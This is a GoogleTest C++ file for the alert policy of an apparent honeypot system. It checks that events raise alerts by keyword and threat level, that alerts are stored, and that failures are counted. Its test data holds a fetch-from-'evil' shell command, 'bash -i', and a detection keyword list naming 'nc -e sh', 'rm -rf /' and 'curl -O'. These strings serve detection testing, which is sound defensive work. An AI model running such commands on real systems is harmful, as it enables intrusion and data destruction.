#include <gtest/gtest.h>
#include "AlertPolicy.h"
#include "MetricsCollector.h"
#include "TestSupport.h"

using namespace LureNet;

class AlertPolicyTest : public ::testing::Test {
protected:
    void SetUp() override {
        test::quietLogs();
        ASSERT_TRUE(store_.open(dir_.file("alerts.db")).ok());
    }

    test::TempDir dir_;
    EventStore store_;
    AlertPolicy policy_{store_};
};

TEST_F(AlertPolicyTest, KeywordFiresRegardlessOfLevel) {
    auto event = test::makeEvent("6.6.6.6", Protocol::SSH, "cd /tmp; WGET http://evil/x.sh", ThreatLevel::LOW);
    event.id = 17;

    auto alert = policy_.evaluate(event);
    ASSERT_TRUE(alert.has_value());
    EXPECT_EQ(alert->alertType, AlertType::DANGEROUS_COMMAND);
    EXPECT_EQ(alert->sourceIp, "6.6.6.6");
    EXPECT_EQ(alert->attackId, std::optional<std::int64_t>(17));
    EXPECT_EQ(alert->timestamp, event.timestamp);
}

TEST_F(AlertPolicyTest, SeverityFiresHighThreat) {
    auto high = policy_.evaluate(test::makeEvent("6.6.6.6", Protocol::HTTP, "method=GET path=/ headers={}", ThreatLevel::HIGH));
    ASSERT_TRUE(high.has_value());
    EXPECT_EQ(high->alertType, AlertType::HIGH_THREAT);
    EXPECT_FALSE(high->attackId.has_value());

    auto critical = policy_.evaluate(test::makeEvent("6.6.6.6", Protocol::HTTP, "", ThreatLevel::CRITICAL));
    ASSERT_TRUE(critical.has_value());
    EXPECT_EQ(critical->alertType, AlertType::HIGH_THREAT);
}

TEST_F(AlertPolicyTest, KeywordWinsOverSeverity) {
    auto alert = policy_.evaluate(test::makeEvent("6.6.6.6", Protocol::SSH, "bash -i", ThreatLevel::CRITICAL));
    ASSERT_TRUE(alert.has_value());
    EXPECT_EQ(alert->alertType, AlertType::DANGEROUS_COMMAND);
}

TEST_F(AlertPolicyTest, QuietEventRaisesNothing) {
    EXPECT_FALSE(policy_.evaluate(test::makeEvent("6.6.6.6", Protocol::FTP, "USER=bob PASS=hunter2", ThreatLevel::MEDIUM)));
    EXPECT_FALSE(policy_.evaluate(test::makeEvent("6.6.6.6", Protocol::SSH, "", ThreatLevel::LOW)));
}

TEST_F(AlertPolicyTest, KeywordList) {
    for (const char* payload : {"curl -O", "chmod +x a", "rm -rf /", "nc -e sh", "python -c", "PERL -e"}) {
        EXPECT_TRUE(AlertPolicy::containsDangerousKeyword(payload)) << payload;
    }
    EXPECT_FALSE(AlertPolicy::containsDangerousKeyword("sync"));
    EXPECT_FALSE(AlertPolicy::containsDangerousKeyword("rm -r"));
}

TEST_F(AlertPolicyTest, DetailEmbedsLevelTypeAndTruncatedPayload) {
    auto event = test::makeEvent("6.6.6.6", Protocol::SSH, std::string(300, 'A'), ThreatLevel::HIGH);
    auto detail = AlertPolicy::composeDetail(event);
    EXPECT_EQ(detail, "threat_level=HIGH attack_type=SSH_BRUTE_FORCE data=" + std::string(200, 'A'));
}

TEST_F(AlertPolicyTest, DetailNeverSplitsMultibyteCharacter) {
    auto event = test::makeEvent("6.6.6.6", Protocol::SSH, std::string(199, 'a') + "\xC3\xA9zz", ThreatLevel::HIGH);
    auto detail = AlertPolicy::composeDetail(event);

    const std::string prefix = "threat_level=HIGH attack_type=SSH_BRUTE_FORCE data=";
    EXPECT_EQ(detail, prefix + std::string(199, 'a') + "\xC3\xA9");
    EXPECT_NE(static_cast<unsigned char>(detail.back()), 0xC3);
}

TEST_F(AlertPolicyTest, ApplyPersistsAlert) {
    auto event = test::makeEvent("6.6.6.6", Protocol::SSH, "wget x", ThreatLevel::LOW);
    auto attackId = store_.recordAttack(event);
    ASSERT_TRUE(attackId.ok());
    event.id = *attackId;

    auto alert = policy_.apply(event);
    ASSERT_TRUE(alert.has_value());
    ASSERT_TRUE(alert->id.has_value());

    auto stored = store_.getAlerts(10, 0);
    ASSERT_TRUE(stored.ok());
    ASSERT_EQ(stored->size(), 1u);
    EXPECT_EQ(stored->front(), *alert);
}

TEST_F(AlertPolicyTest, ApplyFailureIsCountedNotThrown) {
    store_.close();
    auto before = MetricsCollector::instance().getSnapshot().alertFailures;

    auto alert = policy_.apply(test::makeEvent("6.6.6.6", Protocol::SSH, "wget x", ThreatLevel::LOW));
    ASSERT_TRUE(alert.has_value());
    EXPECT_FALSE(alert->id.has_value());
    EXPECT_EQ(MetricsCollector::instance().getSnapshot().alertFailures, before + 1);
}
